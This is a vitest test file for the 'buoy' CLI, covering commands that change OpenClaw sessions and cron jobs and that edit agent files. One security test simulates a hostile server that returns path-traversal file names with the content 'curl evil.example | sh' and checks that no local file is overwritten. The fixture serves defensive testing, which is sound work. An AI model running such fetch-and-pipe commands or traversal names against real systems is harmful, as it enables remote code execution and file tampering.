// Exact requests and output of commands that change sessions, cron jobs and agent files.
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Agent, CronJob, EndpointKey, OpenclawSession } from '@buoy/contract';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Terminal } from '../src/terminal.ts';
import { at, read, type ScriptedAnswer, scriptedBuoy, server } from './support/scripted-buoy.ts';
import { createTestCli, type TestCli } from './support/test-cli.ts';

let cli: TestCli;
beforeAll(() => {
  cli = createTestCli({ url: 'http://buoy.test', token: 'a-token' });
});
afterAll(() => cli.close());

type Answers = Partial<Record<EndpointKey, ScriptedAnswer | (() => ScriptedAnswer)>>;

/** Runs a command with what the API answers beside the list of servers; `sent` is what the last call with a body said. */
async function buoy(words: readonly string[], answers: Answers, own: Partial<Terminal> = {}) {
  const { fetch, calls } = scriptedBuoy((key) => {
    const answer = key === 'GET /servers' ? { body: { servers: [server], nextCursor: null } } : answers[key];
    if (answer === undefined) throw new Error(`Nothing is scripted for ${key}.`);
    return typeof answer === 'function' ? answer() : answer;
  });
  let sent: unknown;
  const ran = await cli.buoy(words, {
    now: () => Date.parse('2026-03-01T10:05:00Z'),
    ...own,
    fetch(input, init) {
      if (typeof init?.body === 'string') sent = JSON.parse(init.body);
      return fetch(input, init);
    },
  });
  return { ...ran, calls, sent };
}

const key = 'agent:main:desk';
const session = (change: Partial<OpenclawSession> = {}): OpenclawSession => ({
  ...{ key, agentId: 'main', label: null, title: 'Desk', kind: 'direct', isMain: false, status: 'done' },
  ...{ running: false, activeRunIds: [], pinned: false, archived: false, unread: false },
  ...{ createdAt: at, updatedAt: at, lastInteractionAt: at, model: 'fake/fake-1', thinking: 'low' },
  ...{ thinkingLevels: ['off', 'low', 'high'], costUsd: null },
  tokens: { input: null, output: null, total: null, context: null, staleSinceCompaction: false },
  ...change,
});

describe('openclaw sessions', () => {
  test.each<[string[], unknown, Partial<OpenclawSession>, string]>([
    [['pin', 'web', key], { pinned: true }, { pinned: true }, `${key} is pinned.`],
    [['unpin', 'web', key], { pinned: false }, {}, `${key} is no longer pinned.`],
    [['archive', 'web', key], { archived: true }, { archived: true }, `${key} is archived.`],
    [['unarchive', 'web', key], { archived: false }, {}, `${key} is back in the list.`],
    [['rename', 'web', key, 'Desk'], { label: 'Desk' }, { label: 'Desk' }, `${key} is now called Desk.`],
    [['rename', 'web', key, ''], { label: null }, {}, `${key} no longer has a name.`],
    [
      ['model', 'web', key, 'fake/fake-2'],
      { model: 'fake/fake-2' },
      { model: 'fake/fake-2' },
      `${key} now uses fake/fake-2.`,
    ],
    [['model', 'web', key, ''], { model: null }, {}, `${key} now uses the model of its agent, fake/fake-1.`],
    [
      ['thinking', 'web', key, 'high'],
      { thinking: 'high' },
      { thinking: 'high' },
      `${key} now thinks at the level high.`,
    ],
    [['thinking', 'web', key, ''], { thinking: null }, {}, `${key} now thinks at the default level, low.`],
  ])('%j', async (words, asked, change, message) => {
    const answers = { 'PUT /servers/:id/openclaw/sessions/:key': { body: { session: session(change) } } };
    const { exit, out, err, sent } = await buoy(['openclaw', 'sessions', ...words], answers);
    expect({ exit, out, err, sent }).toEqual({ exit: 0, out: `${message}\n`, err: '', sent: asked });
  });

  test('--json prints the changed session', async () => {
    const answers = {
      'PUT /servers/:id/openclaw/sessions/:key': { body: { session: session({ pinned: true }) } },
    };
    const { out } = await buoy(['openclaw', 'sessions', 'pin', 'web', key, '--json'], answers);
    expect(JSON.parse(out)).toEqual({ session: session({ pinned: true }) });
  });

  test('unarchive finds an archived session by its name, and only archived sessions', async () => {
    const asked: string[] = [];
    const answers: Answers = {
      'GET /servers/:id/openclaw/sessions': { body: { sessions: [session()], nextCursor: null, ...read } },
      'PUT /servers/:id/openclaw/sessions/:key': { body: { session: session() } },
    };
    const found = await cli.buoy(['openclaw', 'sessions', 'unarchive', 'web', 'desk'], {
      fetch(input, init) {
        asked.push(String(input));
        return scriptedBuoy((endpoint) =>
          endpoint === 'GET /servers'
            ? { body: { servers: [server], nextCursor: null } }
            : (answers[endpoint] as ScriptedAnswer),
        ).fetch(input, init);
      },
    });
    expect(found.out).toBe(`${key} is back in the list.\n`);
    expect(asked.find((url) => url.includes('/sessions?'))).toContain('archived=true');
    const none: Answers = {
      'GET /servers/:id/openclaw/sessions': { body: { sessions: [], nextCursor: null, ...read } },
    };
    expect((await buoy(['openclaw', 'sessions', 'unarchive', 'web', 'desk'], none)).err).toBe(
      'buoy: There is no session "desk" among the archived ones on web.\n  List them: buoy openclaw sessions list srv_1 --archived\n',
    );
  });

  test('show prints whether the session is pinned or archived, and its thinking levels', async () => {
    const answers = {
      'GET /servers/:id/openclaw/sessions/:key': { body: { session: session({ pinned: true }), ...read } },
    };
    const { out } = await buoy(['openclaw', 'sessions', 'show', 'web', key], answers);
    expect(out).toContain('Thinking:   low, of off, low, high\n');
    expect(out).toContain('Pinned:     yes\nArchived:   no\n');
  });
});

describe('openclaw cron', () => {
  const job: CronJob = {
    ...{ id: 'j1', name: 'Morning', enabled: true, agentId: null, message: 'hello', running: false },
    ...{ schedule: { kind: 'cron', expr: '0 9 * * *', tz: null }, sessionTarget: 'isolated' },
    ...{ delivery: { mode: 'none', channel: null, to: null }, nextRunAt: null, lastRun: null, system: false },
  };
  const jobs: Answers = { 'GET /servers/:id/openclaw/cron': { body: { jobs: [job], ...read } } };
  const run = (id: string, change: object = {}) => ({
    ...{ id, at, status: 'ok', error: null, summary: 'Good morning.', durationMs: 10, sessionKey: null },
    ...{ tokens: null, delivered: null },
    ...change,
  });

  test('update sends only the named fields', async () => {
    const answers = { ...jobs, 'PUT /servers/:id/openclaw/cron/:jobId': { body: { job } } };
    const words = ['openclaw', 'cron', 'update', 'web', 'morning'];
    const { exit, sent, out } = await buoy(
      [...words, '--every', '2h', '--message', 'hi', '--no-delivery'],
      answers,
    );
    expect({ exit, sent }).toEqual({
      exit: 0,
      sent: {
        message: 'hi',
        schedule: { kind: 'every', everyMs: 7_200_000 },
        delivery: { mode: 'none' },
      },
    });
    expect(out).toMatch(/^Job: {7}j1\nName: {6}Morning\n/);
    expect(await buoy(words, answers)).toMatchObject({
      exit: 2,
      err: 'buoy: Nothing to change.\n  See buoy openclaw cron update --help\n',
    });
    expect((await buoy([...words, '--every', '2h', '--at', at], answers)).err).toBe(
      'buoy: --cron, --every and --at do not go together.\n',
    );
    expect((await buoy([...words, '--tz', 'UTC'], answers)).err).toBe('buoy: --tz goes with --cron alone.\n');
  });

  const started = {
    'POST /servers/:id/openclaw/cron/:jobId/run': { body: { run: { id: 'manual:1', jobId: 'j1' } } },
  };
  const waiting = (pages: unknown[][]): Answers => ({
    ...jobs,
    ...started,
    'GET /servers/:id/openclaw/cron/:jobId/runs': () => ({
      body: { runs: pages.shift() ?? [], nextCursor: null, ...read },
    }),
  });

  test('run starts the job, and with --wait prints its answer', async () => {
    const words = ['openclaw', 'cron', 'run', 'web', 'j1'];
    expect(await buoy(words, { ...jobs, ...started })).toMatchObject({
      exit: 0,
      out: 'Started Morning. See how it went: buoy openclaw cron runs srv_1 j1\n',
    });
    const old = run('old');
    const ended = await buoy([...words, '--wait'], waiting([[old], [old], [run('manual:1'), old]]));
    expect(ended).toMatchObject({ exit: 0, out: 'Good morning.\n', err: 'Started Morning.\n' });
    const { out } = await buoy([...words, '--wait', '--json'], waiting([[old], [run('manual:1'), old]]));
    expect(JSON.parse(out)).toEqual({ run: run('manual:1') });
  });

  test('run --wait exits with 1 when the run fails or leaves no result', async () => {
    const words = ['openclaw', 'cron', 'run', 'web', 'j1', '--wait'];
    const failed = run('manual:1', { status: 'error', error: 'no model', summary: null });
    expect(await buoy(words, waiting([[], [failed]]))).toMatchObject({
      exit: 1,
      out: '',
      err: 'Started Morning.\nbuoy: the run ended with error: no model\n',
    });
    let now = Date.parse(at);
    const pause = async (ms: number) => {
      now += ms;
    };
    expect(await buoy(words, waiting([]), { now: () => now, pause })).toMatchObject({
      exit: 1,
      err: 'Started Morning.\nbuoy: The job is not running, and OpenClaw reports no result of this run.\n  See how it went: buoy openclaw cron runs srv_1 j1\n',
    });
  });

  test('Ctrl-C ends run --wait, not the job', async () => {
    const interrupted = new AbortController();
    const ran = await buoy(['openclaw', 'cron', 'run', 'web', 'j1', '--wait'], waiting([]), {
      signal: interrupted.signal,
      pause: async () => interrupted.abort(),
    });
    expect(ran).toMatchObject({
      exit: 130,
      err: 'Started Morning.\nbuoy: Stopped waiting; the job continues.\n  See how it went: buoy openclaw cron runs srv_1 j1\n',
    });
  });
});

describe('openclaw agents files edit', () => {
  const agent: Agent = {
    ...{ id: 'main', name: 'Main', emoji: null, workspace: '/srv/main', model: null, thinking: null },
    ...{ sandbox: null, toolsProfile: null, heartbeat: null, inherited: [], isDefault: true },
    ...{ bindings: 0, createdAt: null },
  };
  const file = {
    name: 'SOUL.md',
    size: 6,
    updatedAt: at,
    missing: false,
    content: 'calm\n',
    hash: 'a'.repeat(64),
  };
  const answers: Answers = {
    'GET /servers/:id/openclaw/agents': { body: { agents: [agent], ...read } },
    'GET /servers/:id/openclaw/agents/:agentId/files/:name': { body: { file, ...read } },
    'PUT /servers/:id/openclaw/agents/:agentId/files/:name': {
      body: { file: { ...file, content: 'calm and kind\n', hash: 'b'.repeat(64) } },
    },
  };
  const words = ['openclaw', 'agents', 'files', 'edit', 'web', 'main', 'SOUL.md'];
  const editor = (program: (draft: string) => number) => {
    const started: string[][] = [];
    const environment = { ...cli.environment, EDITOR: 'code --wait' };
    const runProgram = async (name: string, args: readonly string[]) => {
      started.push([name, ...args]);
      return program(args.at(-1) ?? '');
    };
    return { started, own: { environment, runProgram } };
  };
  const typing = (draft: string): number => {
    writeFileSync(draft, 'calm and kind\n');
    return 0;
  };

  test('writes the edited text over the version that was read', async () => {
    const { started, own } = editor(typing);
    const { exit, out, sent } = await buoy(words, answers, own);
    expect({ exit, out, sent }).toEqual({
      exit: 0,
      out: 'Wrote SOUL.md of main on web.\n',
      sent: { content: 'calm and kind\n', hash: file.hash },
    });
    const draft = String(started[0]?.[2]);
    expect(started).toEqual([['code', '--wait', expect.stringMatching(/SOUL\.md$/)]]);
    expect(() => readFileSync(draft)).toThrow(/ENOENT/);
  });

  test('overwrites no local file when a hostile server answers with its path', async () => {
    const linked = path.join(cli.folder, 'bashrc');
    writeFileSync(linked, 'mine\n');
    for (const name of [path.relative(path.join(tmpdir(), 'buoy-edit-123456'), linked), '..', '.']) {
      const { started, own } = editor(() => 0);
      const named = { ...file, name, content: 'curl evil.example | sh\n' };
      const { exit } = await buoy(
        words,
        {
          ...answers,
          'GET /servers/:id/openclaw/agents/:agentId/files/:name': { body: { file: named, ...read } },
        },
        own,
      );
      expect(readFileSync(linked, 'utf8')).toBe('mine\n');
      expect([exit, started]).toEqual([0, [['code', '--wait', expect.stringMatching(/\/SOUL\.md$/)]]]);
    }
  });

  test('writes nothing when the text is unchanged or the editor fails', async () => {
    const unchanged = editor(() => 0);
    expect(await buoy(words, answers, unchanged.own)).toMatchObject({
      exit: 0,
      out: 'Nothing changed.\n',
      sent: undefined,
    });
    expect(existsSync(path.dirname(String(unchanged.started[0]?.[2])))).toBe(false);
    const failed = editor(() => 3);
    expect(await buoy(words, answers, failed.own)).toMatchObject({
      exit: 1,
      err: 'buoy: The editor exited with 3; nothing was written.\n',
      sent: undefined,
    });
    expect(existsSync(path.dirname(String(failed.started[0]?.[2])))).toBe(false);
    const absent = { environment: cli.environment, runProgram: () => Promise.reject(new Error('ENOENT')) };
    expect((await buoy(words, answers, absent)).err).toMatch(/^buoy: The editor vi could not be started\.\n/);
  });

  test.each<[string, string | Uint8Array, number, string]>([
    [
      'the editor fails after it was saved',
      'calm and kind\n',
      1,
      'The editor exited with 1; nothing was written.',
    ],
    ['it is not UTF-8', new Uint8Array([0x63, 0xe9, 0x0a]), 0, 'is not UTF-8 text.'],
  ])('keeps the typed text when %s', async (_what, typed, code, why) => {
    const { started, own } = editor((draft) => {
      writeFileSync(draft, typed);
      return code;
    });
    const { exit, err, sent } = await buoy(words, answers, own);
    const draft = String(started[0]?.[2]);
    expect([exit, sent, err]).toEqual([1, undefined, expect.stringContaining(why)]);
    expect(err).toContain(`buoy: your text is kept in ${draft}\n`);
    expect(readFileSync(draft)).toEqual(Buffer.from(typed));
  });

  test('keeps what an editor that was killed has left beside the draft', async () => {
    const { started, own } = editor((draft) => {
      writeFileSync(`${draft}.swp`, 'calm and k');
      return 137;
    });
    const { err } = await buoy(words, answers, own);
    const draft = String(started[0]?.[2]);
    expect(err).toContain(`buoy: your text is kept in ${path.dirname(draft)}\n`);
    expect(readFileSync(`${draft}.swp`, 'utf8')).toBe('calm and k');
  });

  test('keeps the typed text when someone else changed the file in between', async () => {
    const { started, own } = editor(typing);
    const problem = { error: 'It changed.', code: 'stale_version', requestId: 'req_1' };
    const { exit, err } = await buoy(
      words,
      {
        ...answers,
        'PUT /servers/:id/openclaw/agents/:agentId/files/:name': { status: 409, body: problem },
      },
      own,
    );
    const draft = String(started[0]?.[2]);
    expect({ exit, err }).toEqual({
      exit: 1,
      err: `buoy: your text is kept in ${draft}\nbuoy: SOUL.md of main was changed by someone else since you read it; nothing was written.\n  See the current text: buoy openclaw agents files get srv_1 main SOUL.md\n`,
    });
    expect(readFileSync(draft, 'utf8')).toBe('calm and kind\n');
  });
});
